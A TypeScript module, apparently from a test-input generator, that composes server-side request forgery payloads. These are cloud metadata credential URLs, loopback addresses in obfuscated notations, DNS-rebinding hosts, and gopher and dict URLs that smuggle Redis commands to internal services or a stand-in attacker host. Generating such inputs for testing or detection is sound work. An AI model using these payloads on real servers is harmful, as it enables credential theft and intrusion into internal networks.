/** Addresses that a server must not be sent to: itself, its network, metadata services, in every notation of them. */
import {
  changed,
  characters,
  drawInteger,
  HEX_DIGITS,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Rule,
  text,
  weighted,
} from '../../grammar.ts';
import { attackerHost, privateIp, token } from '../lexicon.ts';

const CIRCLED = '⓪①②③④⑤⑥⑦⑧⑨';

/** Other ways to write a dotted address that resolvers accept (inet_aton, IPv6, Unicode normalisation). */
const inNotation = (address: Rule): Rule =>
  changed(address, (written, random) => {
    const bytes = written.split('.').map(Number);
    const [first = 0, second = 0, third = 0, fourth = 0] = bytes;
    const value = ((first * 256 + second) * 256 + third) * 256 + fourth;
    const octal = (byte: number): string => `0${byte.toString(8)}`;
    const hexadecimal = (byte: number): string => `0x${byte.toString(16)}`;
    const group = (high: number, low: number): string => (high * 256 + low).toString(16);
    return oneOf(
      String(value),
      `0x${value.toString(16).padStart(8, '0')}`,
      bytes.map(octal).join('.'),
      bytes.map((byte) => byte.toString(8).padStart(drawInteger(random, 4, 7), '0')).join('.'),
      bytes.map(hexadecimal).join('.'),
      [octal(first), second, hexadecimal(third), fourth].join('.'),
      `${first}.${(second * 256 + third) * 256 + fourth}`,
      `${first}.${second}.${third * 256 + fourth}`,
      `[::ffff:${written}]`,
      `[::ffff:${group(first, second)}:${group(third, fourth)}]`,
      `[0:0:0:0:0:ffff:${written}]`,
      `[64:ff9b::${written}]`,
      [...written].map((letter) => CIRCLED[Number(letter)] ?? (letter === '.' ? '。' : letter)).join(''),
      written.replaceAll('.', oneOf('。', '%E3%80%82', '．', '%2e')(random)),
      `${written}.${oneOf('nip.io', 'sslip.io', 'xip.io')(random)}`,
      `${written.replaceAll('.', '-')}.${oneOf('nip.io', 'sslip.io')(random)}`,
      `0${value.toString(8)}`,
      bytes.map((byte) => byte + 256).join('.'),
    )(random);
  });

const METADATA = '169.254.169.254';
const metadataPath: Rule = oneOf(
  'latest/meta-data/',
  'latest/meta-data/iam/security-credentials/',
  text`latest/meta-data/iam/security-credentials/${oneOf('admin', 'ec2-role', 's3access', token)}`,
  'latest/user-data',
  text`latest/meta-data/${oneOf('hostname', 'ami-id', 'local-ipv4', 'public-keys/0/openssh-key', 'placement/availability-zone', 'instance-id')}`,
  'latest/dynamic/instance-identity/document',
  'latest/api/token',
  'computeMetadata/v1/',
  text`computeMetadata/v1${maybe('beta1')}/instance/service-accounts/default/${oneOf('token', 'email', 'identity?audience=x')}`,
  'computeMetadata/v1/project/attributes/ssh-keys?alt=json',
  text`metadata/instance?api-version=20${integer(17, 23)}-0${integer(1, 9)}-01`,
  'metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/',
  'metadata/v1.json',
  'metadata/v1/user-data',
  'openstack/latest/meta_data.json',
  'opc/v1/instance/',
  'opc/v2/instance/',
  '2009-04-04/meta-data/',
  '',
);
const metadataHost: Rule = weighted(
  [6, METADATA],
  [4, inNotation(() => METADATA)],
  [2, 'metadata.google.internal'],
  [1, 'metadata'],
  [
    1,
    oneOf(
      '100.100.100.200',
      '192.0.0.192',
      '169.254.170.2',
      '[fd00:ec2::254]',
      '169.254.169.123',
      'instance-data',
      '168.63.129.16',
      'rancher-metadata',
    ),
  ],
);

/** A metadata service of a cloud, with what it is asked for. */
export const metadataUrl: Rule = text`${weighted([8, 'http://'], [1, 'https://'], [1, 'HTTP://'], [1, '//'], [1, 'gopher://'], [1, ''])}${metadataHost}${maybe(oneOf(':80', ':80'), 0.08)}/${metadataPath}`;

const loopbackAddress: Rule = weighted(
  [6, '127.0.0.1'],
  [2, text`127.${integer(0, 255)}.${integer(0, 255)}.${integer(1, 254)}`],
);
const loopbackHost: Rule = weighted(
  [4, 'localhost'],
  [4, '127.0.0.1'],
  [8, inNotation(loopbackAddress)],
  [1, loopbackAddress],
  [
    3,
    oneOf(
      '0',
      '0.0.0.0',
      '127.1',
      '127.0.1',
      '[::]',
      '[::1]',
      '[0000::1]',
      '[0:0:0:0:0:0:0:1]',
      '0x7f.1',
      '017700000001',
      '2130706433',
      '0177.1',
      '127.127.127.127',
      '[::%25lo]',
      'localhost.localdomain',
      '①②⑦.⓪.⓪.①',
      'ⓛⓞⓒⓐⓛⓗⓞⓢⓣ',
      'LOCALHOST',
      '127.0.0.1.',
      'localhost%00',
    ),
  ],
  [
    2,
    oneOf(
      'localtest.me',
      'lvh.me',
      'spoofed.burpcollaborator.net',
      'localh.st',
      'vcap.me',
      'bugbounty.dod.network',
      text`${characters(HEX_DIGITS, 8)}.7f000001.rbndr.us`,
      text`make-127-0-0-1-rebind-${attackerHost}`,
      text`A.127.0.0.1.1time.${METADATA}.1time.repeat.rebind.network`,
    ),
  ],
);
const internalHost: Rule = weighted(
  [6, loopbackHost],
  [3, privateIp],
  [1, inNotation(privateIp)],
  [
    1,
    oneOf(
      'kubernetes.default.svc',
      'internal-api',
      'redis',
      'elasticsearch',
      'jenkins',
      'consul',
      'vault',
      'admin.internal',
      'intranet',
      'db',
      'backend',
      'etcd',
      'docker.for.mac.localhost',
      'host.docker.internal',
    ),
  ],
);
const port: Rule = oneOf(
  '22',
  '25',
  '80',
  '443',
  '2375',
  '3000',
  '3306',
  '5000',
  '5432',
  '5984',
  '6379',
  '6443',
  '8000',
  '8001',
  '8080',
  '8443',
  '8500',
  '9000',
  '9090',
  '9200',
  '10250',
  '11211',
  '27017',
  integer(1, 65535),
);
const internalPath: Rule = oneOf(
  '',
  '',
  'admin',
  'admin/delete?username=carlos',
  'server-status',
  'manager/html',
  '_cat/indices',
  'v1/agent/self',
  'containers/json',
  'api/v1/namespaces',
  'actuator/env',
  'v2/keys',
  'status',
  'flag',
  'debug/pprof',
  '_search?q=*',
  'latest',
  token,
  text`${characters(LOWER_CASE, 3, 8)}?${characters(LOWER_CASE, 1, 3)}=${integer(1, 99)}`,
);
const credentials: Rule = maybe(
  oneOf(
    'admin:admin@',
    'foo@',
    'example.com@',
    'www.google.com@',
    'root:root@',
    'expected-host.com:80@',
    'example.com%23@',
    'google.com#@',
    'a@b@',
  ),
  0.15,
);

/** The server itself or a machine of its network over HTTP; with a port, a path or a notation that gives it away. */
export const internalUrl: Rule = text`${weighted([10, 'http://'], [3, 'https://'], [1, '//'], [1, 'hTTp://'], [1, 'http:\\\\'], [1, 'http:/'], [0.5, 'url:http://'])}${credentials}${internalHost}${maybe(text`:${port}`, 0.65)}/${internalPath}${maybe(oneOf('#', '?', '%23', '%00', text`#.${characters(LOWER_CASE, 3, 7)}.com`, '?.jpg', '&x='), 0.15)}`;

const serviceLines: Rule = oneOf(
  text`_*1%0d%0a$8%0d%0aflushall%0d%0a*3%0d%0a$3%0d%0aset%0d%0a$1%0d%0a1%0d%0a$${integer(10, 99)}%0d%0a${token}%0d%0a`,
  text`_GET%20/${token}%20HTTP/1.1%0d%0aHost:%20${attackerHost}%0d%0a`,
  text`_${oneOf('SLAVEOF', 'CONFIG%20SET%20dir%20/var/www/html', 'INFO', 'stats', 'FLUSHALL', 'HELO%20localhost%0d%0aMAIL%20FROM:<a@b.c>', 'EHLO%20x')}%0d%0a${maybe('quit')}`,
  text`_${repeatHex(20, 80)}`,
  text`_POST%20/${characters(LOWER_CASE, 3, 8)}%20HTTP/1.0%0d%0aContent-Length:%20${integer(1, 99)}%0d%0a%0d%0a${token}`,
);
function repeatHex(least: number, most: number): Rule {
  return (random) =>
    Array.from({ length: drawInteger(random, least, most) }, () => `%${characters(HEX_DIGITS, 2)(random)}`).join('');
}

/** Schemes that only a server-side fetcher follows. */
export const exoticUrl: Rule = weighted(
  [4, text`gopher://${internalHost}:${port}/${serviceLines}`],
  [1, text`gopher://${attackerHost}:${integer(1, 65535)}/${oneOf('_', 'x')}${token}`],
  [
    3,
    text`dict://${oneOf(internalHost, attackerHost)}:${port}/${oneOf('info', 'stats', text`d:${token}`, 'config:set:dir:/var/spool/cron/', text`set:x:${token}`, '')}`,
  ],
  [
    2,
    text`${oneOf('ldap', 'ldaps')}://${oneOf(internalHost, attackerHost)}:${oneOf('389', '1389', '636', port)}/${oneOf('%0astats%0aquit', token, 'o=x', '')}`,
  ],
  [
    2,
    text`${oneOf('sftp', 'tftp', 'ftp')}://${oneOf(internalHost, attackerHost)}:${oneOf('22', '69', '21', '2121', port)}/${token}`,
  ],
  [1, text`jar:http${maybe('s')}://${attackerHost}/${token}.jar!/${oneOf('', 'x', 'META-INF/')}`],
  [1, text`netdoc://${oneOf(internalHost, attackerHost)}/${token}`],
  [
    1,
    text`${oneOf('rmi', 'smb', 'telnet', 'imap', 'smtp', 'pop3', 'rtsp', 'cifs', 'svn', 'git', 'mongodb')}://${oneOf(internalHost, attackerHost)}:${port}/${token}`,
  ],
  [1, text`\\\\${attackerHost}\\${oneOf('share', 'c$', token)}\\${oneOf('x', 'test.txt', token)}`],
);
